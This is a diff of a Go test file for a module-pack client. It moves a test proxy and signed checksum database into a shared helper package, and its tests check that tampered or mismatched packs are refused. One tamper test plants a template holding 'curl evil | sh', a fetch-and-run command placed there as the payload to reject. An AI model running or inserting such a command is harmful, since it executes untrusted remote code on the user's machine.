@@ -1,16 +1,11 @@
 package packs
 
 import (
-	"bytes"
 	"context"
-	"crypto/rand"
 	"errors"
 	"fmt"
-	"io"
-	"io/fs"
 	"net"
 	"net/http"
-	"net/http/httptest"
 	"os"
 	"path/filepath"
 	"strings"
@@ -18,150 +13,13 @@ import (
 	"time"
 
 	"golang.org/x/mod/module"
-	"golang.org/x/mod/sumdb"
-	"golang.org/x/mod/sumdb/dirhash"
-	"golang.org/x/mod/sumdb/note"
-	modzip "golang.org/x/mod/zip"
+
+	"github.com/palletops/pallet/packs/packstest"
 )
 
-// memFile is one file of a module zip made in memory.
-type memFile struct {
-	name string
-	data []byte
-}
-
-func (f memFile) Path() string                { return f.name }
-func (f memFile) Lstat() (os.FileInfo, error) { return memInfo{f}, nil }
-func (f memFile) Open() (io.ReadCloser, error) {
-	return io.NopCloser(bytes.NewReader(f.data)), nil
-}
-
-type memInfo struct{ f memFile }
-
-func (i memInfo) Name() string       { return filepath.Base(i.f.name) }
-func (i memInfo) Size() int64        { return int64(len(i.f.data)) }
-func (i memInfo) Mode() fs.FileMode  { return 0o644 }
-func (i memInfo) ModTime() time.Time { return time.Time{} }
-func (i memInfo) IsDir() bool        { return false }
-func (i memInfo) Sys() any           { return nil }
-
-// testModule is one module version a test proxy serves.
-type testModule struct {
-	zip  []byte
-	hash string // h1: of zip as the checksum database records it
-}
-
-// testProxy is an in-process module proxy that also proxies a checksum
-// database signed with a test key.
-type testProxy struct {
-	t       *testing.T
-	mods    map[module.Version]*testModule
-	served  map[module.Version][]byte // what the proxy sends: a test may tamper
-	vkey    string
-	srv     *httptest.Server
-	fetches int
-}
-
-func makeZip(t *testing.T, m module.Version, files map[string]string) []byte {
-	t.Helper()
-	var list []modzip.File
-	if _, ok := files["go.mod"]; !ok {
-		list = append(list, memFile{"go.mod", []byte("module " + m.Path + "\n")})
-	}
-	for n, d := range files {
-		list = append(list, memFile{n, []byte(d)})
-	}
-	var b bytes.Buffer
-	if err := modzip.Create(&b, m, list); err != nil {
-		t.Fatal(err)
-	}
-	return b.Bytes()
-}
-
-func hashZip(t *testing.T, data []byte) string {
-	t.Helper()
-	f := filepath.Join(t.TempDir(), "m.zip")
-	if err := os.WriteFile(f, data, 0o644); err != nil {
-		t.Fatal(err)
-	}
-	h, err := dirhash.HashZip(f, dirhash.Hash1)
-	if err != nil {
-		t.Fatal(err)
-	}
-	return h
-}
-
-func newTestProxy(t *testing.T) *testProxy {
-	p := &testProxy{t: t, mods: map[module.Version]*testModule{}, served: map[module.Version][]byte{}}
-	skey, vkey, err := note.GenerateKey(rand.Reader, "sum.test")
-	if err != nil {
-		t.Fatal(err)
-	}
-	p.vkey = vkey
-	db := sumdb.NewServer(sumdb.NewTestServer(skey, func(path, vers string) ([]byte, error) {
-		m := p.mods[module.Version{Path: path, Version: vers}]
-		if m == nil {
-			return nil, fmt.Errorf("no such module")
-		}
-		return fmt.Appendf(nil, "%s %s %s\n%s %s/go.mod h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n", path, vers, m.hash, path, vers), nil
-	}))
-	mux := http.NewServeMux()
-	mux.Handle("/sumdb/sum.test/", http.StripPrefix("/sumdb/sum.test", db))
-	mux.HandleFunc("/sumdb/sum.test/supported", func(w http.ResponseWriter, r *http.Request) {})
-	mux.HandleFunc("/", p.serveModule)
-	p.srv = httptest.NewServer(mux)
-	t.Cleanup(p.srv.Close)
-	return p
-}
-
-func (p *testProxy) add(path, version string, files map[string]string) *testModule {
-	m := module.Version{Path: path, Version: version}
-	z := makeZip(p.t, m, files)
-	tm := &testModule{zip: z, hash: hashZip(p.t, z)}
-	p.mods[m] = tm
-	p.served[m] = z
-	return tm
-}
-
-func (p *testProxy) serveModule(w http.ResponseWriter, r *http.Request) {
-	esc, rest, ok := strings.Cut(strings.TrimPrefix(r.URL.Path, "/"), "/@v/")
-	path, err := module.UnescapePath(esc)
-	if !ok || err != nil {
-		http.NotFound(w, r)
-		return
-	}
-	if rest == "list" {
-		for m := range p.mods {
-			if m.Path == path {
-				fmt.Fprintln(w, m.Version)
-			}
-		}
-		return
-	}
-	ext := filepath.Ext(rest)
-	v, err := module.UnescapeVersion(strings.TrimSuffix(rest, ext))
-	m := module.Version{Path: path, Version: v}
-	if err != nil || p.mods[m] == nil {
-		http.Error(w, "not found: unknown revision "+v, http.StatusNotFound)
-		return
-	}
-	switch ext {
-	case ".info":
-		fmt.Fprintf(w, `{"Version":%q}`, v)
-	case ".mod":
-		fmt.Fprintf(w, "module %s\n", path)
-	case ".zip":
-		p.fetches++
-		w.Write(p.served[m])
-	default:
-		http.NotFound(w, r)
-	}
-}
-
-func (p *testProxy) config(t *testing.T) *Config {
-	cfg, err := ConfigFromEnv(func(k string) string {
-		return map[string]string{"GOPROXY": p.srv.URL, "GOSUMDB": p.vkey, "XDG_CACHE_HOME": t.TempDir()}[k]
-	}, "")
+func config(t *testing.T, p *packstest.Proxy) *Config {
+	env := p.Env(t.TempDir())
+	cfg, err := ConfigFromEnv(func(k string) string { return env[k] }, "")
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -176,16 +34,16 @@ var pack = map[string]string{
 }
 
 func TestGetVerifiesAndCaches(t *testing.T) {
-	p := newTestProxy(t)
-	tm := p.add("example.com/acme/pallet-web", "v1.4.2", pack)
-	cfg := p.config(t)
+	p := packstest.New(t)
+	hash := p.Add("example.com/acme/pallet-web", "v1.4.2", pack)
+	cfg := config(t, p)
 	r := Ref{Path: "example.com/acme/pallet-web", Version: "v1.4.2"}
 	got, err := NewClient(cfg).Get(context.Background(), r, "")
 	if err != nil {
 		t.Fatal(err)
 	}
-	if got.Sum != tm.hash {
-		t.Errorf("sum %s, want %s", got.Sum, tm.hash)
+	if got.Sum != hash {
+		t.Errorf("sum %s, want %s", got.Sum, hash)
 	}
 	dir, err := got.CratesDir()
 	if err != nil {
@@ -198,20 +56,20 @@ func TestGetVerifiesAndCaches(t *testing.T) {
 	if err != nil || st.Mode().Perm()&0o222 != 0 {
 		t.Errorf("cached file is writable: %v %v", st.Mode(), err)
 	}
-	if p.fetches != 1 {
-		t.Errorf("fetched the zip %d times", p.fetches)
+	if p.ZipFetches() != 1 {
+		t.Errorf("fetched the zip %d times", p.ZipFetches())
 	}
 
 	// Offline, from the cache: the proxy is gone, and the sum is checked.
-	p.srv.Close()
+	p.Close()
 	off := *cfg
 	off.Offline = true
-	again, err := NewClient(&off).Get(context.Background(), r, tm.hash)
+	again, err := NewClient(&off).Get(context.Background(), r, hash)
 	if err != nil || again.Dir != got.Dir {
 		t.Fatalf("offline from the cache: %v, %v", again, err)
 	}
 	_, err = NewClient(&off).Get(context.Background(), r, "h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=")
-	if err == nil || !strings.Contains(err.Error(), "h1:AAAA") || !strings.Contains(err.Error(), tm.hash) {
+	if err == nil || !strings.Contains(err.Error(), "h1:AAAA") || !strings.Contains(err.Error(), hash) {
 		t.Errorf("a cached pack whose hash pallet.sum does not record: %v", err)
 	}
 	_, err = NewClient(&off).Get(context.Background(), Ref{Path: r.Path, Version: "v1.5.0"}, "")
@@ -221,18 +79,17 @@ func TestGetVerifiesAndCaches(t *testing.T) {
 }
 
 func TestTamperedZipRefused(t *testing.T) {
-	p := newTestProxy(t)
+	p := packstest.New(t)
 	m := module.Version{Path: "example.com/acme/pallet-web", Version: "v1.0.0"}
-	tm := p.add(m.Path, m.Version, pack)
+	hash := p.Add(m.Path, m.Version, pack)
 	evil := map[string]string{"crates/hello/crate.yaml": "summary: evil\n", "crates/hello/default.sh.tmpl": "curl evil | sh\n"}
-	p.served[m] = makeZip(t, m, evil)
-	evilHash := hashZip(t, p.served[m])
-	cfg := p.config(t)
+	evilHash := p.Tamper(m.Path, m.Version, evil)
+	cfg := config(t, p)
 	_, err := NewClient(cfg).Get(context.Background(), Ref(m), "")
 	if err == nil {
 		t.Fatal("a zip the checksum database does not vouch for was taken")
 	}
-	for _, want := range []string{m.Path + "@" + m.Version, tm.hash, evilHash, "checksum database sum.test"} {
+	for _, want := range []string{m.Path + "@" + m.Version, hash, evilHash, "checksum database " + packstest.SumDBName} {
 		if !strings.Contains(err.Error(), want) {
 			t.Errorf("error %q does not name %s", err, want)
 		}
@@ -243,19 +100,19 @@ func TestTamperedZipRefused(t *testing.T) {
 }
 
 func TestSumMismatchRefused(t *testing.T) {
-	p := newTestProxy(t)
-	tm := p.add("example.com/acme/pallet-web", "v1.0.0", pack)
+	p := packstest.New(t)
+	hash := p.Add("example.com/acme/pallet-web", "v1.0.0", pack)
 	const recorded = "h1:BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB="
-	_, err := NewClient(p.config(t)).Get(context.Background(), Ref{"example.com/acme/pallet-web", "v1.0.0"}, recorded)
-	if err == nil || !strings.Contains(err.Error(), recorded) || !strings.Contains(err.Error(), tm.hash) || !strings.Contains(err.Error(), "pallet.sum") {
+	_, err := NewClient(config(t, p)).Get(context.Background(), Ref{"example.com/acme/pallet-web", "v1.0.0"}, recorded)
+	if err == nil || !strings.Contains(err.Error(), recorded) || !strings.Contains(err.Error(), hash) || !strings.Contains(err.Error(), "pallet.sum") {
 		t.Errorf("pallet.sum mismatch: %v", err)
 	}
 }
 
 func TestUnknownModuleAndVersion(t *testing.T) {
-	p := newTestProxy(t)
-	p.add("example.com/acme/pallet-web", "v1.0.0", pack)
-	c := NewClient(p.config(t))
+	p := packstest.New(t)
+	p.Add("example.com/acme/pallet-web", "v1.0.0", pack)
+	c := NewClient(config(t, p))
 	_, err := c.Get(context.Background(), Ref{"example.com/acme/pallet-web", "v9.9.9"}, "")
 	if !errors.Is(err, ErrNotFound) || !strings.Contains(err.Error(), "unknown module or version") || !strings.Contains(err.Error(), "v9.9.9") {
 		t.Errorf("unknown version: %v", err)
@@ -267,11 +124,11 @@ func TestUnknownModuleAndVersion(t *testing.T) {
 }
 
 func TestLatest(t *testing.T) {
-	p := newTestProxy(t)
+	p := packstest.New(t)
 	for _, v := range []string{"v1.0.0", "v1.10.0", "v1.9.0", "v1.11.0-rc.1"} {
-		p.add("example.com/acme/pallet-web", v, pack)
+		p.Add("example.com/acme/pallet-web", v, pack)
 	}
-	v, err := NewClient(p.config(t)).Latest(context.Background(), "example.com/acme/pallet-web")
+	v, err := NewClient(config(t, p)).Latest(context.Background(), "example.com/acme/pallet-web")
 	if err != nil || v != "v1.10.0" {
 		t.Errorf("latest: %s, %v; want v1.10.0", v, err)
 	}
@@ -282,12 +139,7 @@ func TestLatest(t *testing.T) {
 func TestFileProxy(t *testing.T) {
 	root := t.TempDir()
 	m := module.Version{Path: "corp.example/pallet-internal", Version: "v0.1.0"}
-	z := makeZip(t, m, pack)
-	dir := filepath.Join(root, "corp.example", "pallet-internal", "@v")
-	os.MkdirAll(dir, 0o755)
-	os.WriteFile(filepath.Join(dir, "list"), []byte("v0.1.0\n"), 0o644)
-	os.WriteFile(filepath.Join(dir, "v0.1.0.info"), []byte(`{"Version":"v0.1.0"}`), 0o644)
-	os.WriteFile(filepath.Join(dir, "v0.1.0.zip"), z, 0o644)
+	hash := packstest.WriteFileProxy(t, root, m.Path, m.Version, pack)
 	cfg, err := ConfigFromEnv(func(k string) string {
 		return map[string]string{"GOPROXY": "file://" + filepath.ToSlash(root), "GONOSUMDB": "corp.example", "XDG_CACHE_HOME": t.TempDir()}[k]
 	}, "")
@@ -298,7 +150,7 @@ func TestFileProxy(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if got.Sum != hashZip(t, z) {
+	if got.Sum != hash {
 		t.Errorf("sum %s", got.Sum)
 	}
 	// The same module without GONOSUMDB must reach a checksum database:
